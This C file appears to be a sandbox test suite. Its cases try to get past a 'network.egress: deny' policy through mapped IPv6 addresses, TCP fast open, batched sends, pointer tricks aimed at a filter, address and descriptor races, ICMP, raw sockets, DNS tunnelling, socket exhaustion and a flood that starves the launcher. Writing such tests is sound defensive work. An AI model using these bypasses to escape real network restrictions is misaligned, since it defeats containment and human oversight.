// Ways out of an instance with `network.egress: deny` (rows E). REFUSED is a host that the policy does not name,
// ALLOWED one that it does; listeners at both note what reaches them.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

enum { DNS = 53 };

static struct sockaddr_in host(const char* variable, int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
  inet_pton(AF_INET, text_of(variable), &address.sin_addr);
  return address;
}
static struct sockaddr_in refused(void) {
  return host("REFUSED", number_of("HOST_PORT"));
}
static struct sockaddr_in allowed(void) {
  return host("ALLOWED", number_of("HOST_PORT"));
}
static struct sockaddr_in6 mapped(void) {
  struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons((unsigned short)number_of("HOST_PORT"))};
  char text[64];
  snprintf(text, sizeof text, "::ffff:%s", text_of("REFUSED"));
  inet_pton(AF_INET6, text, &address.sin6_addr);
  return address;
}
static char line[128];
static size_t own_line(void) {
  return (size_t)snprintf(line, sizeof line, "%s %s\n", text_of("RUN_ID"), case_name);
}
static enum outcome dial(const void* address, socklen_t length, int family, int type) {
  const int fd = socket(family, type, 0);
  return connect(fd, address, length) == 0 ? announce(fd) : BLOCKED;
}
static enum outcome throw(int fd, const void* address, socklen_t length) {
  const size_t size = own_line(); return blocked_unless(sendto(fd, line, size, 0, address, length) == (ssize_t)size);
}

static enum outcome stream(void) {
  const struct sockaddr_in to = refused();
  return dial(&to, sizeof to, AF_INET, SOCK_STREAM);
}
static enum outcome stream_mapped(void) {
  const struct sockaddr_in6 to = mapped();
  return dial(&to, sizeof to, AF_INET6, SOCK_STREAM);
}
static enum outcome fast_open(void) {
  const struct sockaddr_in to = refused();
  const size_t size = own_line();
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  return blocked_unless(sendto(fd, line, size, MSG_FASTOPEN, (const struct sockaddr*)&to, sizeof to) == (ssize_t)size);
}
static enum outcome by_sendto(void) {
  const struct sockaddr_in to = refused();
  return throw(socket(AF_INET, SOCK_DGRAM, 0), &to, sizeof to);
}
static enum outcome by_sendmsg(void) {
  struct sockaddr_in to = refused();
  struct iovec data = {line, own_line()};
  const struct msghdr header = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &data, .msg_iovlen = 1};
  return blocked_unless(sendmsg(socket(AF_INET, SOCK_DGRAM, 0), &header, 0) > 0);
}
static enum outcome by_sendmmsg(void) {
  struct sockaddr_in to[2] = {allowed(), refused()};
  struct iovec data = {line, own_line()};
  struct mmsghdr headers[2];
  memset(headers, 0, sizeof headers);
  for (int i = 0; i < 2; ++i) {
    headers[i].msg_hdr =
        (struct msghdr){.msg_name = &to[i], .msg_namelen = sizeof to[i], .msg_iov = &data, .msg_iovlen = 1};
  }
  return blocked_unless(sendmmsg(socket(AF_INET, SOCK_DGRAM, 0), headers, 2, 0) == 2);
}
// A filter that looks at half of the pointer takes it for none.
static enum outcome half_pointer(void) {
  struct sockaddr_in* to = mmap((void*)0x200000000000, 4096, PROT_READ | PROT_WRITE,
                                MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  if (to == MAP_FAILED) return UNSUPPORTED;
  *to = refused();
  return throw(socket(AF_INET, SOCK_DGRAM, 0), to, sizeof *to);
}
static enum outcome datagram_mapped(void) {
  const struct sockaddr_in6 to = mapped();
  return throw(socket(AF_INET6, SOCK_DGRAM, 0), &to, sizeof to);
}
static enum outcome without_family(void) {
  struct sockaddr_in to = refused();
  to.sin_family = AF_UNSPEC;
  return throw(socket(AF_INET, SOCK_DGRAM, 0), &to, sizeof to);
}
static enum outcome connected(void) {
  const struct sockaddr_in to = refused();
  return dial(&to, sizeof to, AF_INET, SOCK_DGRAM);
}
static enum outcome connected_elsewhere(void) {
  const struct sockaddr_in first = allowed();
  const struct sockaddr_in to = refused();
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  connect(fd, (const struct sockaddr*)&first, sizeof first);
  return throw(fd, &to, sizeof to);
}

// --- races -----------------------------------------------------------------------------------------------------------

static struct sockaddr_in shared;
static void* flip_address(void* unused) {
  volatile in_addr_t* address = &shared.sin_addr.s_addr;
  const in_addr_t good = allowed().sin_addr.s_addr;
  const in_addr_t bad = refused().sin_addr.s_addr;
  while (!stop) {
    *address = good;
    *address = bad;
  }
  return unused;
}
// Where it was refused, the address that was judged was the refused one; where it went, the allowed one, if all is
// well.
static enum outcome rewritten(void) {
  shared = allowed();
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  start_flipping(flip_address);
  while (racing()) throw(fd, &shared, sizeof shared);
  stop_flipping();
  return SUCCEEDED;
}
static int harmless, leaving;
static void* flip_descriptor(void* unused) {
  while (!stop) {
    dup2(harmless, 90);
    dup2(leaving, 90);
  }
  return unused;
}
// On a unix socket the address is an error, so that only the other one can say yes.
static enum outcome swapped(void) {
  const struct sockaddr_in to = refused();
  harmless = socket(AF_UNIX, SOCK_DGRAM, 0);
  leaving = socket(AF_INET, SOCK_DGRAM, 0);
  dup2(harmless, 90);
  enum outcome any = BLOCKED;
  for (int i = 0; i < 15 && any == BLOCKED; ++i) {
    start_flipping(flip_descriptor);
    while (any == BLOCKED && racing()) any = throw(90, &to, sizeof to);
    stop_flipping();
  }
  return any;
}

// --- other protocols -------------------------------------------------------------------------------------------------

static enum outcome ping(void) {
  const struct sockaddr_in to = host("REFUSED", 0);
  char echo[8] = {8};
  const int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
  if (fd < 0) return UNSUPPORTED;
  if (sendto(fd, echo, sizeof echo, 0, (const struct sockaddr*)&to, sizeof to) < 0) return BLOCKED;
  struct pollfd wait = {fd, POLLIN, 0};
  return blocked_unless(poll(&wait, 1, 500) == 1);
}
static enum outcome raw(void) {
  return blocked_unless(socket(AF_INET, SOCK_RAW, IPPROTO_UDP) >= 0);
}
static enum outcome other_name_server(void) {
  const struct sockaddr_in to = host("REFUSED", DNS);
  return throw(socket(AF_INET, SOCK_DGRAM, 0), &to, sizeof to);
}
// Asks for NAME.test.example and waits for what the name server says.
static enum outcome ask(const char* name) {
  const struct sockaddr_in to = host("NAME_SERVER", DNS);
  unsigned char query[128] = {1, 2, 1, 0, 0, 1};
  size_t size = 12;
  for (const char *labels[] = {name, "test", "example"}, **label = labels; label < labels + 3; ++label) {
    query[size++] = (unsigned char)strlen(*label);
    memcpy(query + size, *label, strlen(*label));
    size += strlen(*label);
  }
  query[size + 2] = query[size + 4] = 1;
  size += 5;
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (sendto(fd, query, size, 0, (const struct sockaddr*)&to, sizeof to) < 0) return BLOCKED;
  struct pollfd wait = {fd, POLLIN, 0};
  return blocked_unless(poll(&wait, 1, 1000) == 1);
}
static enum outcome name_server(void) {
  return ask("www");
}
static enum outcome tunnel(void) {
  char secret[64];
  snprintf(secret, sizeof secret, "%s-%s", text_of("RUN_ID"), case_name);
  return ask(secret);
}
static enum outcome loopback(void) {
  struct sockaddr_in own = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
  socklen_t length = sizeof own;
  const int types[] = {SOCK_STREAM, SOCK_DGRAM};
  for (int i = 0; i < 2; ++i) {
    own.sin_port = 0;
    const int server = socket(AF_INET, types[i], 0);
    const int client = socket(AF_INET, types[i], 0);
    if (bind(server, (struct sockaddr*)&own, sizeof own) != 0) return BLOCKED;
    if (types[i] == SOCK_STREAM && listen(server, 1) != 0) return BLOCKED;
    getsockname(server, (struct sockaddr*)&own, &length);
    if (types[i] == SOCK_STREAM && connect(client, (struct sockaddr*)&own, sizeof own) != 0) return BLOCKED;
    if (types[i] == SOCK_DGRAM && throw(client, &own, sizeof own) != SUCCEEDED) return BLOCKED;
    struct pollfd wait = {server, POLLIN, 0};
    if (poll(&wait, 1, 1000) != 1) return BLOCKED;
  }
  return SUCCEEDED;
}
static enum outcome allowed_host(void) {
  const struct sockaddr_in to = allowed();
  return dial(&to, sizeof to, AF_INET, SOCK_STREAM);
}
// More sockets than the broker keeps, by processes that keep theirs: the oldest must go.
static enum outcome given_up(void) {
  const struct sockaddr_in to = refused();
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  int ready[2];
  if (pipe(ready) != 0) return UNSUPPORTED;
  const pid_t hog = fork();
  if (hog == 0) {
    setpgid(0, 0);
    for (int i = 0; i < 7; ++i) {
      if (fork() == 0) break;
    }
    for (int i = 0; i < 700; ++i) socket(AF_INET, SOCK_STREAM, 0);
    (void)!write(ready[1], "x", 1);
    sleep(5);
    _exit(0);
  }
  char byte = 0;
  for (int i = 0; i < 8; ++i) (void)!read(ready[0], &byte, 1);
  const enum outcome outcome = throw(fd, &to, sizeof to);
  const int error = errno;
  kill(-hog, SIGKILL);
  errno = error;
  return outcome;
}

// Datagrams of 64 KiB by the thousand from eight processes; who wants anything else of the launcher waits behind them.
static void flood(void) {
  static char bytes[65000];
  static struct mmsghdr headers[1024];
  struct sockaddr_in own = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = {htonl(INADDR_LOOPBACK)}};
  struct iovec data = {bytes, sizeof bytes};
  for (int i = 0; i < 1024; ++i) {
    headers[i].msg_hdr =
        (struct msghdr){.msg_name = &own, .msg_namelen = sizeof own, .msg_iov = &data, .msg_iovlen = 1};
  }
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  for (;;) sendmmsg(fd, headers, 1024, 0);
}
static enum outcome beside_a_flood(void) {
  const pid_t group = fork();
  if (group == 0) {
    setpgid(0, 0);
    for (int i = 0; i < 7 && fork() != 0;) ++i;
    flood();
  }
  usleep(200000);
  int opened = 0;
  for (const time_t end = time(NULL) + 2; time(NULL) < end;) {
    const int file = open("beside", O_CREAT | O_WRONLY, 0644);
    opened += file >= 0;
    close(file);
  }
  kill(-group, SIGKILL);
  return blocked_unless(opened >= 60);  // 10 where a call of theirs is done to its end
}

const struct attack egress_attacks[] = {
    {"E1", stream},
    {"E1b", stream_mapped},
    {"E1c", fast_open},
    {"E2", by_sendto},
    {"E2b", by_sendmsg},
    {"E2c", by_sendmmsg},
    {"E2d", half_pointer},
    {"E2e", datagram_mapped},
    {"E2f", without_family},
    {"E3", connected},
    {"E3b", connected_elsewhere},
    {"E4", rewritten},
    {"E4b", swapped},
    {"E5", ping},
    {"E6", raw},
    {"E7", other_name_server},
    {"E8", name_server},
    {"E9", loopback},
    {"E10", allowed_host},
    {"E11", tunnel},
    {"E12", given_up},
    {"E13", beside_a_flood},
    {NULL, NULL},
};
